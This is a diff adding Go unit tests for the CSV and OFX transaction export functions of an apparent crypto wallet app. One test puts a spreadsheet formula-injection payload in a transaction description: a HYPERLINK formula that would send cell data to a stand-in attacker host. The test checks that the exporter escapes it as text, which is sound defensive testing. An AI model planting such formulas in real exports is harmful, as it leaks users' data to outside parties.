@@ -0,0 +1,121 @@
+package adapters
+
+import (
+	"database/sql"
+	"testing"
+	"time"
+
+	"github.com/shopspring/decimal"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/rudithu/CRYPTO-WalletApp/adapters"
+	"github.com/rudithu/CRYPTO-WalletApp/models"
+)
+
+var exportCreatedAt = time.Date(2025, 5, 3, 9, 30, 0, 0, time.UTC)
+
+func mockExportTxn(txnType string, status string) models.Transaction {
+	return models.Transaction{
+		ID:          401,
+		WalletId:    101,
+		Type:        txnType,
+		Amount:      decimal.NewFromFloat(12.5),
+		Status:      status,
+		CreatedAt:   exportCreatedAt,
+		CompletedAt: sql.NullTime{Time: exportCreatedAt.Add(time.Minute), Valid: true},
+	}
+}
+
+func TestToTransactionCSVRecord_TransferOut(t *testing.T) {
+	txn := mockExportTxn(models.TxnTypeTransferOut, models.TxnStatusCompleted)
+	txn.CounterpartyWalletId = sql.NullInt64{Int64: 210, Valid: true}
+	txn.TransferId = sql.NullInt64{Int64: 31, Valid: true}
+	txn.Description = models.NullString("rent, May")
+	txn.Tags = []string{"housing", "rent"}
+
+	record := adapters.ToTransactionCSVRecord(models.Wallet{ID: 101, Currency: "USD"}, txn)
+
+	require.Len(t, record, len(adapters.TransactionCSVHeader))
+	assert.Equal(t, []string{
+		"2025-05-03T09:30:00Z", "2025-05-03T09:31:00Z", "101", "USD", "401", models.TxnTypeTransferOut, models.TxnStatusCompleted,
+		"-12.50", "rent, May", "", "210", "31", "", "housing;rent",
+	}, record)
+}
+
+func TestToTransactionCSVRecord_DepositIsPositive(t *testing.T) {
+	record := adapters.ToTransactionCSVRecord(models.Wallet{ID: 101, Currency: "USD"}, mockExportTxn(models.TxnTypeDeposit, models.TxnStatusPending))
+
+	assert.Equal(t, "12.50", record[7])
+}
+
+func TestToTransactionCSVRecord_FormulaIsText(t *testing.T) {
+	txn := mockExportTxn(models.TxnTypeDeposit, models.TxnStatusCompleted)
+	txn.Description = models.NullString(`=HYPERLINK("http://attacker.example/?d="&A1,"Click")`)
+	txn.ExternalReference = models.NullString("@SUM(1+1)")
+
+	record := adapters.ToTransactionCSVRecord(models.Wallet{ID: 101, Currency: "USD"}, txn)
+
+	assert.Equal(t, `'=HYPERLINK("http://attacker.example/?d="&A1,"Click")`, record[8])
+	assert.Equal(t, "'@SUM(1+1)", record[9])
+}
+
+func TestToTransactionCSVRecord_DebitAmountNotQuoted(t *testing.T) {
+	txn := mockExportTxn(models.TxnTypeWithdraw, models.TxnStatusCompleted)
+	txn.Description = models.NullString("-10 refund\tdue")
+
+	record := adapters.ToTransactionCSVRecord(models.Wallet{ID: 101, Currency: "USD"}, txn)
+
+	assert.Equal(t, "-12.50", record[7])
+	assert.Equal(t, "'-10 refund\tdue", record[8])
+}
+
+func TestToOfxTransactions_Withdraw(t *testing.T) {
+	txn := mockExportTxn(models.TxnTypeWithdraw, models.TxnStatusCompleted)
+	txn.ExternalReference = models.NullString("INV-7")
+
+	txns := adapters.ToOfxTransactions(txn, exportCreatedAt.AddDate(0, 1, 0))
+
+	require.Len(t, txns, 1)
+	assert.Equal(t, "DEBIT", txns[0].TrnType)
+	assert.Equal(t, "-12.50", txns[0].TrnAmt)
+	assert.Equal(t, "20250503093100.000[0:GMT]", txns[0].DtPosted)
+	assert.Equal(t, "401", txns[0].FitID)
+	assert.Equal(t, models.TxnTypeWithdraw, txns[0].Name)
+	assert.Equal(t, "INV-7", txns[0].Memo)
+}
+
+func TestToOfxTransactions_ReversedTransferOut(t *testing.T) {
+	txn := mockExportTxn(models.TxnTypeTransferOut, models.TxnStatusReversed)
+	txn.Description = models.NullString("a description longer than thirty-two characters")
+	txn.ReversedAt = sql.NullTime{Time: exportCreatedAt.AddDate(0, 0, 2), Valid: true}
+
+	txns := adapters.ToOfxTransactions(txn, exportCreatedAt.AddDate(0, 1, 0))
+
+	require.Len(t, txns, 2)
+	assert.Equal(t, "XFER", txns[0].TrnType)
+	assert.Equal(t, "-12.50", txns[0].TrnAmt)
+	assert.Equal(t, "a description longer than thirty", txns[0].Name)
+	assert.Equal(t, "XFER", txns[1].TrnType)
+	assert.Equal(t, "12.50", txns[1].TrnAmt)
+	assert.Equal(t, "401-R", txns[1].FitID)
+	assert.Equal(t, "20250505093000.000[0:GMT]", txns[1].DtPosted)
+}
+
+func TestToOfxTransactions_ReversedAfterUntil(t *testing.T) {
+	txn := mockExportTxn(models.TxnTypeDeposit, models.TxnStatusReversed)
+	txn.ReversedAt = sql.NullTime{Time: exportCreatedAt.AddDate(0, 0, 2), Valid: true}
+
+	txns := adapters.ToOfxTransactions(txn, exportCreatedAt.AddDate(0, 0, 1))
+
+	require.Len(t, txns, 1)
+	assert.Equal(t, "DEP", txns[0].TrnType)
+	assert.Equal(t, "12.50", txns[0].TrnAmt)
+}
+
+func TestToOfxTransactions_PendingAndFailedSkipped(t *testing.T) {
+	until := exportCreatedAt.AddDate(0, 1, 0)
+
+	assert.Empty(t, adapters.ToOfxTransactions(mockExportTxn(models.TxnTypeDeposit, models.TxnStatusPending), until))
+	assert.Empty(t, adapters.ToOfxTransactions(mockExportTxn(models.TxnTypeDeposit, models.TxnStatusFailed), until))
+}